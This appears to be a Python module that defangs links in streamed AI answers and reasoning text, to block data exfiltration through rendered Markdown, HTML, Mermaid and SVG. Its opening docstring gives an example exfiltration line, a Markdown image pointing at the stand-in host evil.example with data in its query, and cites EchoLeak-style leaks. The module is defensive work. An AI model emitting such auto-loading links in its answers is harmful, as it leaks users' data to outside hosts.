"""Link policy: an operator can have the links of answers defanged, so that an answer cannot leak data.

A page that shows an answer may load `![](https://evil.example/?q=what+the+evidence+says)` automatically (EchoLeak,
CVE-2025-32711), or a reader may click on it. The renderer decides what is a link: Markdown in its dialects, raw HTML,
and libraries that detect bare URLs. Therefore nothing is parsed here. The characters that every renderer needs are
separated, by adding characters and removing none: `] (`, `] :`, `! [`, `< img`, `https[:]//`, `evil[.]example/x`,
`me[@]evil.example`. A registered name alone, such as README.md, stays, because it cannot contain data. Code is changed
too: pages render Mermaid, SVG and HTML from code blocks and load their resources (CVE-2025-54132).
"""

import re
from collections.abc import Collection, Iterator
from dataclasses import dataclass
from html import unescape
from typing import Literal

LinkPolicy = Literal["allow", "evidence", "none"]

MAX_HELD_CHARACTERS = 10_000  # characters of a word that are held; pages link no longer address
MAX_SHOWN_PART_CHARACTERS = 300  # characters of the shown part of an incomplete word; host names are shorter

# Text before the first of these characters in a word never changes, so it need not be held.
_STARTS = re.compile(r"[.:@<\[\]!&\\]")
_WORD = re.compile(r"\S+")


@dataclass(frozen=True, slots=True)
class _Change:
    """Replace `text[start:end]` by `replacement`."""

    start: int
    end: int
    replacement: str


class LinkDefanger:
    """Defangs the links in one text while it arrives, word by word.

    Call `feed` with each delta and `flush` at the end of a sentence, which returns the held text. If a word continues
    after `flush`, it is checked together with its beginning.
    """

    def __init__(self, allowed: Collection[str] = ()) -> None:
        """Create a defanger. `allowed`: URLs that stay links if they occur exactly like this, with nothing appended."""
        longest_first = sorted(filter(None, allowed), key=len, reverse=True)
        self._allowed = re.compile("|".join(map(re.escape, longest_first))) if longest_first else None
        self._held: list[str] = []  # the incomplete word, from the first character that may have to change
        self._held_length = 0
        self._shown_part = ""  # the shown part of this word
        self._code = False

    def feed(self, text: str, *, code: bool = False) -> str:
        """Add text; return the text that can be shown. `code`: the text is code."""
        self._code = code
        begin = _last_word(text)
        if self._held_length and not begin:  # more of the held word
            self._hold(text)
            return self.flush() if self._held_length > MAX_HELD_CHARACTERS else ""
        shown = self._words(self._take_held() + text[:begin])
        word = text[begin:]
        start = _STARTS.search(word)
        plain = word[: start.start()] if start else word
        if plain and not self._changes_shown_part(self._shown_part + plain, len(self._shown_part)):
            shown += plain
            self._remember(plain)
            word = word[len(plain) :]
        self._hold(word)
        return shown

    def flush(self) -> str:
        """Return the held text, as if nothing followed."""
        return self._words(self._take_held())

    def _hold(self, text: str) -> None:
        if text:
            self._held.append(text)
            self._held_length += len(text)

    def _take_held(self) -> str:
        held = "".join(self._held)
        self._held.clear()
        self._held_length = 0
        return held

    def _words(self, text: str) -> str:
        shown: list[str] = []
        done = 0
        for word in _WORD.finditer(text):
            if word.start() > done:
                self._shown_part = ""
            shown += [text[done : word.start()], self._word(word[0])]
            done = word.end()
        if done < len(text):
            self._shown_part = ""
        return "".join(shown) + text[done:]

    def _word(self, word: str) -> str:
        shown_part = self._shown_part
        if not _STARTS.search(shown_part + word):
            self._remember(word)
            return word
        if self._changes_shown_part(shown_part + word, len(shown_part)):
            self._shown_part = word[-MAX_SHOWN_PART_CHARACTERS:]
            return " " + _apply(word, self._changes(word), 0)
        shown = _apply(shown_part + word, self._changes(shown_part + word), len(shown_part))
        self._remember(word)
        return shown

    def _changes_shown_part(self, word: str, shown: int) -> bool:
        """Return whether the rest of the word would require a change in `word[:shown]`, which is already shown."""
        if not _STARTS.search(word, 0, shown):
            return False
        changes_before = set(self._changes(word[:shown]))
        return any(change.start < shown and change not in changes_before for change in self._changes(word))

    def _changes(self, word: str) -> list[_Change]:
        allowed = list(_allowed_spans(self._allowed, word)) if self._allowed else []
        return [
            change
            for change in sorted(_changes(word, self._code), key=lambda change: change.start)
            if not any(start <= change.start < end for start, end in allowed)
        ]

    def _remember(self, text: str) -> None:
        self._shown_part = (self._shown_part + text)[-MAX_SHOWN_PART_CHARACTERS:]


class LinkDefangers:
    """Defangs links in other texts than the answer, such as reasoning, without holding any text.

    A word that arrives in pieces is separated where the next piece would complete a link.
    """

    def __init__(self) -> None:
        self._texts: dict[tuple[int, str], LinkDefanger] = {}

    def feed(self, choice: int, name: str, text: str) -> str:
        """Return the next piece of the text `name` of a choice, without links."""
        defanger = self._texts.setdefault((choice, name), LinkDefanger())
        return defanger.feed(text) + defanger.flush()


def _last_word(text: str) -> int:
    """Return where the last word begins."""
    position = len(text)
    while position and not text[position - 1].isspace():
        position -= 1
    return position


def _apply(word: str, changes: list[_Change], start: int) -> str:
    """Return `word[start:]` with its changes."""
    parts: list[str] = []
    done = start
    for change in changes:
        if change.start >= done:
            parts += [word[done : change.start], change.replacement]
            done = change.end
    return "".join(parts) + word[done:]


_TRAILING = re.compile(
    r"[.,;:!?)\]}>'\"*_~|。，；：！？）】」』”’»]{0,3}\Z"
)  # more characters could be part of the URL


def _allowed_spans(allowed: re.Pattern[str], word: str) -> Iterator[tuple[int, int]]:
    """Return where an allowed URL stays: as the complete target of a link, or bare and followed by punctuation."""
    for url in allowed.finditer(word):
        start, end = url.span()
        if word.startswith("](", start - 2) and word.startswith(")", end) and not word[start - 3 : start - 2].isdigit():
            yield start - 2, end
        elif word.startswith("<", start - 1) and word.startswith(">", end):
            yield start - 1, end
        elif _TRAILING.match(word, end) and not word[start - 1 : start].isalnum():
            yield start, end


# Elements that are harmful without attributes, or that change how the following text is parsed
_ELEMENTS = (
    "script|style|iframe|frame|frameset|object|embed|applet|base|link|meta|svg|math|template|noscript|textarea|title|"
    "xmp|plaintext|form|audio|video|picture|image|img|a|input|button|select|portal|noembed|noframes|head|html|body"
)
_ANYWHERE = re.compile(
    rf"""
      (?P<colon> :(?=//) | (?<=[A-Za-z0-9+.\-]{{2}}):(?=[/\\])                    # https://, https:\/\/, https:/
          | (?<=https):\Z | (?<=http):\Z
          | (?:(?<=javascript)|(?<=vbscript)|(?<=mailto)|(?<=xmpp)):(?=.)
          | (?<=data):(?=[\w.+\-]*[/;,]) )
    | (?P<bracket> \](?=[(:]) )                                                   # the target of a link or definition
    | (?P<image> !(?=\[) )                                                        # loaded automatically
    | (?P<tag> <(?=[A-Za-z/!?])(?!/?(?!(?:{_ELEMENTS})\b)[A-Za-z][\w.\-]*/?>)(?!/[A-Za-z][\w\-]*>) )
    | (?P<entity> &(?:\#[0-9]{{1,8}}|\#[xX][0-9a-fA-F]{{1,7}}|[A-Za-z]{{2,31}});? )
    | (?P<command> \\(?=(?:href|url|includegraphics|htmlData|htmlStyle|require)\b) ) # commands of TeX that create links
    """,
    re.VERBOSE | re.IGNORECASE,
)
_NUMBERED = re.compile(r"\[(?=[^\[\]]*\d\][(:])|(?<=\d)\](?=[(:])")  # would look like one of our citations
_STRUCTURAL = frozenset(":/.@")  # characters of a URL that character references can encode


def _changes(word: str, code: bool) -> Iterator[_Change]:
    for match in _ANYWHERE.finditer(word):
        start, end = match.span()
        match match.lastgroup:
            case "colon":
                yield _bracketed(word, start)
            case "entity":
                if not _STRUCTURAL.isdisjoint(unescape(match[0])):
                    yield _Change(start, start + 1, "& ")
            case "bracket" if not code and word[start - 1 : start].isdigit():
                pass  # below
            case _:
                yield _Change(start, end, f"{match[0]} ")
    if not code:
        for match in _NUMBERED.finditer(word):
            yield _Change(match.start(), match.end(), "" if match[0] == "[" else " ")
        for sign in _AT.finditer(word):
            yield _bracketed(word, sign.start())
    if (_SLASHED.search(word) if code else _is_url(word)) and "." in word:
        for dot in _DOT.finditer(word):
            yield _bracketed(word, dot.start())


def _bracketed(word: str, position: int) -> _Change:
    """Put the character at `position` into brackets, the usual notation for defanged URLs."""
    links_brackets = word[position + 1 : position + 2] in _OPENS_TARGET or word[position - 1 : position] == "!"
    return _Change(position, position + 1, f"{word[position]} " if links_brackets else f"[{word[position]}]")


_OPENS_TARGET = frozenset(
    ["(", "[", ":", ""]
)  # would create a link with brackets before it; "" is text that has not arrived
# For linkify-it, almost any character is part of a name: soft hyphens, backquotes, zero-width spaces.
_AT = re.compile(r"(?<=[\w.+\-;:&=$,])@(?=\S)")
_DOT = re.compile(r"(?<=\S)\.(?=\S)")
_INNER_DOT = re.compile(r"(?<=[^\s.])\.(?=[^\s.])")
# Top-level domains that linkify-it, the most common library, links; and some that other libraries link
_TLDS = (
    "a[cdefgilmnoqrtuwxz]|b[abdefghijmnorstvwyz]|c[acdfghiklmnoruvwxyz]|d[ejkmoz]|e[cegrstu]|f[ijkmor]|"
    "g[abdefghilmnpqrstuwy]|h[kmnrtu]|i[delmnoqrst]|j[emop]|k[eghimnprwyz]|l[abcikrstuvy]|m[acdeghklmnopqrstuvwxyz]|"
    "n[acefgilopruz]|om|p[aefghklmnrstwy]|qa|r[eosuw]|s[abcdeghijklmnortuvxyz]|t[cdfghjklmnortvwz]|u[agksyz]|"
    "v[aceginu]|w[fs]|y[et]|z[amw]|xn--[a-z0-9-]+|biz|com|edu|gov|net|org|pro|web|xxx|aero|asia|coop|info|museum|name|"
    "shop|рф|app|dev|cloud|online|site|xyz|top|club|store|tech|live|space|website|link|click|icu|page|example|test|"
    "internal|local|localhost|invalid"
)
_TLD_PATTERN = re.compile(rf"\.(?:{_TLDS})(?![A-Za-z0-9_\-])", re.IGNORECASE)
_SLASHED = re.compile(r"[/\\][/\\][^/]{0,999}\.")  # linkify-it links //name.any/path too
_EXPLICIT = re.compile(rf"{_SLASHED.pattern}|www\\?\.\S", re.IGNORECASE)
_CONTINUES = frozenset("/?#:\\")


def _is_url(word: str) -> bool:
    """Return whether pages would link it and it has more than a registered name: a path, a query, a subdomain."""
    if "." not in word:
        return False
    if _EXPLICIT.search(word):
        return True
    first = _INNER_DOT.search(word)
    return first is not None and any(
        domain.start() > first.start() or word[domain.end() : domain.end() + 1] in _CONTINUES
        for domain in _TLD_PATTERN.finditer(word, first.start())
    )
